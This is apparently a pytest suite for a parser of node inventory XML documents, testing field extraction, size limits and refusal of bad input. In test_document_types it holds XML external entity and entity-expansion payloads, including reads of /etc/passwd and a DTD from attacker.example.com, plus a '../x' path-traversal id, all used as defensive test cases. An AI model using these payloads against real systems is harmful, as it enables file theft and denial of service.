# SPDX-License-Identifier: MIT
"""
What is read of a document, what is tolerated and what is refused.
"""

from __future__ import annotations

import json
from collections.abc import Iterable
from datetime import datetime, timedelta, timezone
from xml.sax.saxutils import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nodecomm.inventory import document as document_module
from nodecomm.inventory.document import read_document
from nodecomm.inventory.elements import Element
from nodecomm.inventory.limits import DocumentLimits, DocumentRefused
from nodecomm.inventory.model import Address, Inventory, Refusal, Software
from tests.inventory.documents import (
    NODE,
    REAL,
    SYSTEM,
    WRITTEN,
    agent,
    document,
    element,
    real,
    rudder,
)


def refusal(data: bytes, limits: DocumentLimits | None = None) -> Refusal:
    """
    Why a document is refused.
    """
    with pytest.raises(DocumentRefused) as caught:
        read_document(data, limits)
    assert str(caught.value) == caught.value.refusal.text
    return caught.value.refusal


def properties(value: object) -> str:
    """
    The element of properties, with a value as JSON.
    """
    return element("CUSTOM_PROPERTIES", escape(json.dumps(value)))


def agent_of(inventory: Inventory) -> tuple[str, str, str]:
    """
    What of an agent tells it from another one.
    """
    return inventory.agent.name, inventory.agent.version, inventory.policy_server_id


@pytest.mark.parametrize("name", REAL)
def test_real_documents(name: str) -> None:
    """
    Documents of real nodes are read.
    """
    found = read_document(real(name)[0])

    assert found.node_id == REAL[name][0]
    assert found.owner == found.policy_server_id == "root"
    assert found.agent.name == "cfengine-community"
    assert len(found.software) > 300


def test_real_document_in_detail() -> None:
    """
    Each part of a real document is where it belongs.
    """
    found = read_document(real("8.0/debian12.ocs")[0])

    assert found.hostname == found.os.fqdn == "node3.rudder.local"
    assert found.device_id == "node3-2023-11-16-10-46-21"
    assert found.written == datetime(2023, 11, 16, 10, 46, 35, tzinfo=timezone.utc)
    assert found.agent.version == "8.0.3-debian12"
    assert found.policy_server_hostname == "server"
    assert found.capabilities == (
        *("cfengine", "jq", "yaml", "xml", "curl", "http_reporting", "acl"),
    )
    assert found.os.full_name == "Debian GNU/Linux 12 (bookworm)"
    assert (found.os.kernel_name, found.os.kernel_version) == (
        "linux",
        "6.1.0-13-amd64",
    )
    assert found.hardware.memory == 205
    assert found.hardware.virtual_system == "VirtualBox"
    assert found.bios.maker == "innotek GmbH"
    assert [x.name for x in found.interfaces] == ["lo", "eth0", "eth1"]
    assert found.interfaces[1].addresses[0] == Address(
        "10.0.2.15", "255.255.255.0", "10.0.2.2", "10.0.2.0"
    )
    assert "192.168.2.5" in found.addresses
    assert [(x.name, x.quantity, x.cores) for x in found.processors] == [
        ("AMD Ryzen 7 PRO 6850U with Radeon Graphics", 1, 1)
    ]
    assert [(x.mount, x.kind, x.total) for x in found.filesystems] == [
        ("/", "ext4", 19985),
        ("/vagrant", "vboxsf", 870384),
    ]
    assert [(x.name, x.size) for x in found.storages] == [("sda", 21474)]
    assert found.software[0].name == "adduser"
    assert found.software[0].source_version == "3.134"
    assert found.users[:2] == ("root", "daemon")
    assert found.client == "FusionInventory-Agent_v2.6"
    assert found.without_details().software == ()


def test_line_ends_and_mark_do_not_matter() -> None:
    """
    A document of a Windows node, with CRLF and a byte order mark, reads the same.
    """
    data = document(rudder(more="\n"))

    assert read_document(b"\xef\xbb\xbf" + data.replace(b"\n", b"\r\n")) == (
        read_document(data)
    )


@pytest.mark.parametrize(
    ("offset", "hours"),
    [
        ("+0100", 1),
        ("-0730", -7.5),
        ("+05:30", 5.5),
        (None, 0),
        ("", 0),
        ("CET", 0),
        ("+9900", 0),
    ],
)
def test_date(offset: str | None, hours: float) -> None:
    """
    The date is local, with the offset of the system; UTC where there is none.
    """
    zone = element("TIMEZONE", "<NAME>X</NAME>", element("OFFSET", offset))
    found = read_document(document(system=SYSTEM + zone, written="2024-03-21 16:07:29"))

    assert found.written == WRITTEN - timedelta(hours=hours)


@pytest.mark.parametrize(
    "date", [None, "", "yesterday", "2024-13-01 00:00:00", "2024-03-21T16:07:29"]
)
def test_no_date(date: str | None) -> None:
    """
    A document without a date that can be read is read; its age is judged elsewhere.
    """
    assert read_document(document(written=date)).written is None


def test_date_at_the_end_of_time() -> None:
    """
    A date that no other zone has is none.
    """
    zone = "<TIMEZONE><OFFSET>-0100</OFFSET></TIMEZONE>"
    data = document(system=SYSTEM + zone, written="9999-12-31 23:59:59")

    assert read_document(data).written is None


def test_text() -> None:
    """
    Text is trimmed, blanks are one, references are resolved; nothing within is lost.
    """
    odd = "\n \t Debian&#x9; GNU/<B>Linux</B>  &amp;&#32;<![CDATA[<more>]]> \n"
    found = read_document(document(system=SYSTEM + element("VERSION", odd)))

    assert found.os.version == "Debian GNU/Linux & <more>"


def test_order_does_not_matter() -> None:
    """
    Elements may stand in any order, as hand-made documents have them.
    """
    system = element("OPERATINGSYSTEM", SYSTEM)
    data = (
        "<REQUEST><QUERY>INVENTORY</QUERY><DEVICEID>x</DEVICEID><CONTENT>"
        f"{rudder()}{system}</CONTENT></REQUEST>"
    )

    assert read_document(data.encode()).node_id == NODE


def test_unknown_elements() -> None:
    """
    What is not known is ignored, wherever it is.
    """
    more = "<NEW><DEEP><UUID>x</UUID></DEEP></NEW>"
    data = document(rudder(more=more), more + element("PROCESSES", more), more=more)

    assert read_document(data) == read_document(document())


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (("one.example.com", "two.example.com"), "one.example.com"),
        ((None, "two.example.com"), "two.example.com"),
        (("", "two.example.com"), "two.example.com"),
        (("localhost", "some.valid.hostname"), "some.valid.hostname"),
        (("bad name", "node1.."), "node1.."),
        (("under_score-1", None), "under_score-1"),
    ],
)
def test_hostname(names: tuple[str | None, str | None], expected: str) -> None:
    """
    The node's name is the first that is one.
    """
    own, fqdn = names
    data = document(rudder(hostname=own), system=SYSTEM + element("FQDN", fqdn))
    found = read_document(data)

    assert found.hostname == expected
    assert found.original_hostname is None


def test_overridden_hostname() -> None:
    """
    A property replaces the name; one that makes no sense does not.
    """
    values = [{"a": 1}, {"rudder_override_hostname": "other.example.com"}]
    found = read_document(document(rudder(more=properties(values))))
    odd = {"rudder_override_hostname": "localhost"}
    kept = read_document(document(rudder(more=properties([odd]))))

    assert found.hostname == "other.example.com"
    assert found.original_hostname == "node.example.com"
    assert found.properties == tuple(values)
    assert kept.hostname == "node.example.com"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('[{"a": 1}, 2, {"b": [null]}]', ({"a": 1}, {"b": [None]})),
        ('{"a": 1}', ()),
        ("no JSON", ()),
        ("[" * 100_000, ()),
        ('[{"a": NaN}]', ()),
        ('[{"a": 1e999}]', ()),
        ('[{"a": ' + "9" * 5000 + "}]", ()),
    ],
)
def test_properties(text: str, expected: tuple[object, ...]) -> None:
    """
    Properties are the objects of an array; anything else is ignored.
    """
    more = element("CUSTOM_PROPERTIES", escape(text))

    assert read_document(document(rudder(more=more))).properties == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("cfengine-community", "cfengine-community"),
        ("Community", "cfengine-community"),
        ("DSC", "dsc"),
    ],
)
def test_agent_names(name: str, expected: str) -> None:
    """
    The agent's name may be in any case.
    """
    found = read_document(document(rudder(agent(name=name, certificate="x"))))

    assert found.agent.name == expected


def test_first_usable_agent() -> None:
    """
    Of several agents the first usable one counts, whatever the others say.
    """
    data = document(
        rudder(
            agent(name="cfengine-nova", certificate="a", server="one"),
            agent(certificate="b", server="root_1"),
            agent(name="dsc", certificate="c", server="root_2"),
        )
    )
    found = read_document(data)

    assert agent_of(found) == ("cfengine-community", "8.3.1", "root_1")
    assert found.agent.certificate == "b"


@pytest.mark.parametrize(
    ("name", "packages", "expected"),
    [
        (
            "community",
            [("Rudder-Agent", "6.1.0.release-1.EL.7")],
            "6.1.0.release-1.EL.7",
        ),
        ("community", [("libx", "1"), ("x-rudder-agent-y", "2")], "2"),
        ("community", [("rudder-agent", "2"), ("rudder-agent", "1")], "2"),
        ("dsc", [("Rudder agent (DSC)", "8.1.0"), ("rudder-agent", "1")], "8.1.0"),
    ],
)
def test_agent_version_of_package(
    name: str, packages: list[tuple[str, str]], expected: str
) -> None:
    """
    Where the version is not told, it is that of the agent's package.
    """
    software = [
        element("SOFTWARES", element("NAME", n), element("VERSION", v))
        for n, v in packages
    ]
    section = rudder(agent(name=name, certificate="x"), version=None)

    assert read_document(document(section, *software)).agent.version == expected


def test_agents_are_few() -> None:
    """
    However many agents a document names, few are looked at.
    """
    unusable, usable = agent(name="cfengine-nova"), agent(certificate="x")
    few = document(rudder(*[unusable] * 15, usable, *[usable] * 1000))
    many = document(rudder(*[unusable] * 16, usable))

    assert read_document(few).agent.certificate == "x"
    assert refusal(many).code == "too-many-elements"
    assert refusal(many).element == "RUDDER/AGENT"


@pytest.mark.parametrize(
    "part",
    [
        "<X " + " ".join(f'a{number}=""' for number in range(200)) + "/>",
        "<X b='1'/>" * 100,
        "<X/>" * 200,
    ],
)
def test_attributes_are_counted(part: str) -> None:
    """
    Attributes, whose names the parser remembers, count as elements do.
    """
    data = document(more=part)

    assert read_document(data).node_id == NODE
    assert refusal(data, DocumentLimits(elements=200)).code == "too-many-elements"


@pytest.mark.parametrize(
    "part", ["<X a='%s'/>", "<!--%s-->", "<?x %s?>", "<X>", "<X a='"]
)
def test_what_is_read_at_once_is_bounded(part: str) -> None:
    """
    A tag, comment or instruction that does not end is not waited for; text is no
    matter, however long.
    """
    long = "x" * (1 << 20)
    data = document(more=part.replace("%s", long) if "%s" in part else part + long)

    assert refusal(data).code == ("not-xml" if part == "<X>" else "too-long")
    assert read_document(document(more=element("X", long))).node_id == NODE


@pytest.mark.parametrize(
    ("section", "path"),
    [
        (element("PROCESSES", "x" * 100_000), None),
        (element("SOFTWARES", "x" * 100_000), "SOFTWARES"),
        (element("HARDWARE", element("UUID", "x \t" * 30_000)), "HARDWARE/UUID"),
        (element("SOFTWARES", element("NAME", *["x" * 999, "<B/>"] * 65)), None),
        (
            element("SOFTWARES", element("NAME", *[element("B", "x" * 60_000)] * 2)),
            "NAME",
        ),
        ("\n" * 200_000, None),
        ("\n  <SOFTWARES/>" * 50_000, None),
    ],
)
def test_texts_are_bounded(section: str, path: str | None) -> None:
    """
    A text that is longer than any is refused, unless nobody reads it; how elements are
    indented is no text.
    """
    data = document(rudder(), section)
    if path is None:
        assert read_document(data).node_id == NODE
    else:
        assert (refusal(data).code, refusal(data).element) == ("too-long", path)


def test_properties_may_be_longer() -> None:
    """
    The properties are one text, which is a list of many.
    """
    value = [{"a": "x" * 1000}] * 200
    found = read_document(document(rudder(more=properties(value))))

    assert len(found.properties) == 200


def test_addresses_of_one_interface_are_bounded() -> None:
    """
    More addresses than any machine has are left out.
    """
    many = ",".join(f"10.0.{n >> 8}.{n & 255}" for n in range(3000))
    one = "<NETWORKS><DESCRIPTION>%s</DESCRIPTION><IPADDRESS>%s</IPADDRESS></NETWORKS>"
    found = read_document(document(rudder(), one % ("a", many), one % ("b", "::1")))
    cards = "".join(
        one % (f"eth{n}", many.replace("10.0.", f"10.{n}.")) for n in range(12)
    )

    assert [len(x.addresses) for x in found.interfaces] == [1000, 1]
    assert len(read_document(document(rudder(), cards)).addresses) == 10_000


def test_what_is_told_of_many_addresses_is_looked_for_once(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """
    The mask of an interface is not read again for each of its addresses.
    """
    read: list[tuple[str, ...]] = []
    text = Element.text

    def count(self: Element, *names: str) -> str | None:
        read.append(names)
        return text(self, *names)

    monkeypatch.setattr(Element, "text", count)
    many = ",".join(f"10.0.0.{n}" for n in range(200))
    card = element("DESCRIPTION", "a") + element("IPADDRESS", many)
    card += element("IPMASK", "255.0.0.0")
    found = read_document(document(rudder(), element("NETWORKS", card)))

    assert {x.mask for x in found.interfaces[0].addresses} == {"255.0.0.0"}
    assert read.count(("IPMASK",)) == 1


def test_packages_are_looked_through_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """
    Of which package the agents' version is, is not looked for anew for each agent.
    """
    looked = []
    versions = document_module._package_versions

    def count(software: Iterable[Software]) -> dict[str, str]:
        looked.append(list(software))
        return versions(looked[-1])

    monkeypatch.setattr(document_module, "_package_versions", count)
    package = element("SOFTWARES", element("NAME", "p"), element("VERSION", "1"))
    section = rudder(*[agent(certificate="x")] * 10, version=None)

    assert refusal(document(section, package)).element == "RUDDER/AGENT_VERSION"
    assert [[x.name for x in software] for software in looked] == [["p"]]


def test_key_forms() -> None:
    """
    A key may be called in two ways; several certificates are kept in their order.
    """
    alias = "<AGENT_KEY>other</AGENT_KEY>"
    twice = agent(certificate="one", more="<AGENT_CERT>two</AGENT_CERT>")

    assert read_document(document(rudder(agent(key="text")))).agent.key == "text"
    assert read_document(document(rudder(agent(more=alias)))).agent.key == "other"
    assert read_document(document(rudder(twice))).agent.certificate == "one\ntwo"


def test_the_same_twice() -> None:
    """
    What is told twice in the same words is told once; empty elements tell nothing.
    """
    twice = agent(certificate="x", more="<OWNER/><OWNER> root </OWNER>")
    more = element("UUID", NODE) + "<UUID/>"

    assert read_document(document(rudder(twice, more=more))) == (
        read_document(document(rudder(agent(certificate="x"))))
    )


def test_aix_kernel() -> None:
    """
    AIX tells its kernel's version in another place.
    """
    hardware = "<HARDWARE><OSVERSION>7100-03</OSVERSION></HARDWARE>"
    data = document(rudder(), hardware, system="<KERNEL_NAME>AIX</KERNEL_NAME>")

    assert read_document(data).os.kernel_version == "7100-03"
    assert refusal(data.replace(b"AIX", b"linux")).code == "missing"


def test_machine() -> None:
    """
    Parts of one name are put together, and what makes no sense is left out.
    """
    sections = (
        "<NETWORKS><DESCRIPTION>eth0</DESCRIPTION><IPADDRESS>10.0.0.1,10.0.0.2,bad"
        "</IPADDRESS><IPADDRESS6>FE80::1%eth0/64</IPADDRESS6><STATUS>Up</STATUS>"
        "</NETWORKS>"
        "<NETWORKS><DESCRIPTION>eth0</DESCRIPTION><IPADDRESS>10.0.0.2</IPADDRESS>"
        "<IPMASK>255.0.0.0</IPMASK><STATUS>Down</STATUS></NETWORKS>"
        "<NETWORKS><TYPE>wifi</TYPE></NETWORKS><NETWORKS/>"
        "<CPUS><NAME>A</NAME><CORE>4</CORE></CPUS><CPUS><NAME>B</NAME></CPUS>"
        "<CPUS><NAME>A</NAME><CORE>9</CORE></CPUS><CPUS/>"
        "<DRIVES><LETTER>C:</LETTER><TOTAL>12.7</TOTAL><FREE>-1</FREE></DRIVES><DRIVES/>"
        "<MEMORIES><CAPACITY>No</CAPACITY></MEMORIES><STORAGES/>"
        "<SOFTWARES><NAME>x</NAME><VERSION>1</VERSION></SOFTWARES>"
        "<SOFTWARES><NAME>x</NAME><VERSION>1</VERSION><COMMENTS>y</COMMENTS></SOFTWARES>"
        "<SOFTWARES><NAME>x</NAME></SOFTWARES><SOFTWARES/>"
        "<SOFTWAREUPDATES><NAME>x</NAME><KIND>security</KIND></SOFTWAREUPDATES>"
        "<SOFTWAREUPDATES><KIND>none</KIND></SOFTWAREUPDATES>"
        "<LOCAL_USERS><LOGIN>root</LOGIN><NAME>Root</NAME></LOCAL_USERS>"
        "<LOCAL_USERS><NAME>Administrator</NAME></LOCAL_USERS>"
    )
    found = read_document(document(rudder(), sections))

    assert found.addresses == ("10.0.0.1", "10.0.0.2", "fe80::1")
    assert {x.mask for x in found.interfaces[0].addresses} == {None}
    assert [(x.name, x.status) for x in found.interfaces] == [
        ("eth0", "Up"),
        ("wifi", None),
    ]
    assert [(x.name, x.quantity, x.cores) for x in found.processors] == [
        ("A", 2, 4),
        ("B", 1, None),
    ]
    assert [(x.letter, x.total, x.free) for x in found.filesystems] == [
        ("C:", 12, None)
    ]
    assert [x.capacity for x in found.memories] == [None]
    assert found.storages == ()
    assert [(x.version, x.comments) for x in found.software] == [
        ("1", None),
        (None, None),
    ]
    assert [(x.name, x.kind) for x in found.updates] == [("x", "security")]
    assert found.users == ("root", "Administrator")


@pytest.mark.parametrize(
    ("data", "code", "path"),
    [
        (document(rudder(node_id=None)), "missing", "RUDDER/UUID"),
        (document(rudder(node_id="")), "missing", "RUDDER/UUID"),
        (document(rudder(node_id="a_b")), "bad-node-id", "RUDDER/UUID"),
        (document(rudder(node_id="../x")), "bad-node-id", "RUDDER/UUID"),
        (document(rudder(node_id="a" * 51)), "bad-node-id", "RUDDER/UUID"),
        (document(rudder(more="<UUID>b</UUID>")), "ambiguous", "RUDDER/UUID"),
        (document(rudder(), rudder()), "ambiguous", "RUDDER"),
        (document(rudder(), element("X", rudder())), "ambiguous", "RUDDER"),
        (document("<X/>"), "missing", "RUDDER"),
        (document("<RUDDER/>"), "missing", "RUDDER/UUID"),
        (
            document(rudder(agent(certificate="x", owner=None))),
            "missing",
            "RUDDER/AGENT/OWNER",
        ),
        (
            document(rudder(agent(certificate="x", server=" "))),
            "missing",
            "RUDDER/AGENT/POLICY_SERVER_UUID",
        ),
        (
            document(rudder(agent(certificate="x", more="<OWNER>b</OWNER>"))),
            "ambiguous",
            "RUDDER/AGENT/OWNER",
        ),
        (
            document(rudder(agent(certificate="x", name=None))),
            "missing",
            "RUDDER/AGENT/AGENT_NAME",
        ),
        (
            document(rudder(agent(certificate="x", name="CFEngine-nova"))),
            "unknown-agent",
            "RUDDER/AGENT/AGENT_NAME",
        ),
        (document(rudder(agent())), "missing", "RUDDER/AGENT/AGENT_CERT"),
        (
            document(rudder(agent(name="dsc", key="x"))),
            "missing",
            "RUDDER/AGENT/AGENT_CERT",
        ),
        (
            document(rudder(agent(key="x" * 70_000))),
            "too-long",
            "RUDDER/AGENT/CFENGINE_KEY",
        ),
        (
            document(rudder(agent(certificate="x", owner="x" * 256))),
            "too-long",
            "RUDDER/AGENT/OWNER",
        ),
        (document(rudder(version=None)), "missing", "RUDDER/AGENT_VERSION"),
        (
            document(rudder(more=element("CUSTOM_PROPERTIES", "1" * (2 << 20)))),
            "too-long",
            "RUDDER/CUSTOM_PROPERTIES",
        ),
        (
            document(element("RUDDER", element("UUID", NODE))),
            "missing",
            "RUDDER/AGENT",
        ),
        (document(system=None), "missing", "OPERATINGSYSTEM/NAME"),
        (document(system=""), "missing", "OPERATINGSYSTEM/NAME"),
        (
            document(system="<KERNEL_NAME>linux</KERNEL_NAME>"),
            "missing",
            "OPERATINGSYSTEM/KERNEL_VERSION",
        ),
        (
            document(system="<NAME>Plan 9</NAME><KERNEL_VERSION>4</KERNEL_VERSION>"),
            "unknown-os",
            "OPERATINGSYSTEM/KERNEL_NAME",
        ),
        (document(rudder(hostname=None)), "missing", "RUDDER/HOSTNAME"),
        (document(rudder(hostname="localhost")), "bad-hostname", "RUDDER/HOSTNAME"),
        (document(rudder(hostname="LocalHost")), "bad-hostname", "RUDDER/HOSTNAME"),
        (document(rudder(hostname="::1")), "bad-hostname", "RUDDER/HOSTNAME"),
        (document(rudder(hostname="a" * 256)), "bad-hostname", "RUDDER/HOSTNAME"),
        (document(device_id=None), "missing", "DEVICEID"),
        (document(device_id=" \t"), "missing", "DEVICEID"),
        (b"<REQUEST/>", "missing", "REQUEST/CONTENT"),
        (
            b"<REQUEST><CONTENT/><CONTENT/></REQUEST>",
            "ambiguous",
            "REQUEST/CONTENT",
        ),
        (b"<OTHER><CONTENT/></OTHER>", "not-inventory", ""),
        (b"", "not-xml", ""),
        (b"\x1f\x8b", "not-xml", ""),
        (document()[:-20], "not-xml", ""),
        (document() + b"<more/>", "not-xml", ""),
        (document(more="&unknown;"), "not-xml", ""),
        (document(more="\x00"), "not-xml", ""),
        (document(head='<?xml version="1.0" encoding="no-such"?>'), "not-xml", ""),
        (document(head='<?xml version="1.0" encoding="utf-7"?>'), "not-xml", ""),
        (document(head="<!DOCTYPE REQUEST>"), "doctype", ""),
    ],
)
def test_refused(data: bytes, code: str, path: str) -> None:
    """
    What cannot be used is refused with a reason that names the element.
    """
    found = refusal(data)

    assert (found.code, found.element) == (code, path)
    assert path in found.text


@pytest.mark.parametrize(
    "types",
    [
        '<!DOCTYPE R [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE R [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE R SYSTEM "http://attacker.example.com/x.dtd">',
        '<!DOCTYPE R [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]>',
        '<!DOCTYPE R [<!ATTLIST REQUEST a CDATA "x">]>',
    ],
)
def test_document_types(types: str) -> None:
    """
    No entity is ever declared, and nothing is fetched.
    """
    assert refusal(document(head=types)).code == "doctype"


@pytest.mark.parametrize(
    ("limits", "code"),
    [
        (DocumentLimits(size=100), "too-large"),
        (DocumentLimits(depth=3), "too-deep"),
        (DocumentLimits(elements=10), "too-many-elements"),
    ],
)
def test_limits(limits: DocumentLimits, code: str) -> None:
    """
    A document beyond a limit is refused.
    """
    assert refusal(document(), limits).code == code


def test_limits_hold_where_nothing_is_kept() -> None:
    """
    What is ignored is counted all the same.
    """
    deep = "<a>" * 100 + "</a>" * 100
    many = "<a/>" * 2000

    assert refusal(document(more=deep)).code == "too-deep"
    assert refusal(document(more=many), DocumentLimits(elements=500)).code == (
        "too-many-elements"
    )


@given(data=st.binary(max_size=300))
@settings(max_examples=60)
def test_any_bytes(data: bytes) -> None:
    """
    Whatever comes is an inventory or a refusal, never another exception.
    """
    for prefix in (b"", b'<?xml version="1.0"?><REQUEST><CONTENT>'):
        with pytest.raises(DocumentRefused):
            read_document(prefix + data)


@given(data=st.data())
@settings(max_examples=60)
def test_any_damage(data: st.DataObject) -> None:
    """
    A document that was changed anywhere is read or refused.
    """
    whole = document(rudder(agent(certificate="x"), more=properties([{"a": [1]}])))
    start = data.draw(st.integers(0, len(whole)))
    end = data.draw(st.integers(start, min(len(whole), start + 40)))
    piece = data.draw(
        st.binary(max_size=8)
        | st.sampled_from([b"<RUDDER/>", b"</CONTENT>", b"<![CDATA[", b"&#0;", b"&lt;"])
    )
    try:
        found = read_document(whole[:start] + piece + whole[end:])
    except DocumentRefused as error:
        assert error.refusal.code
    else:
        assert found.node_id
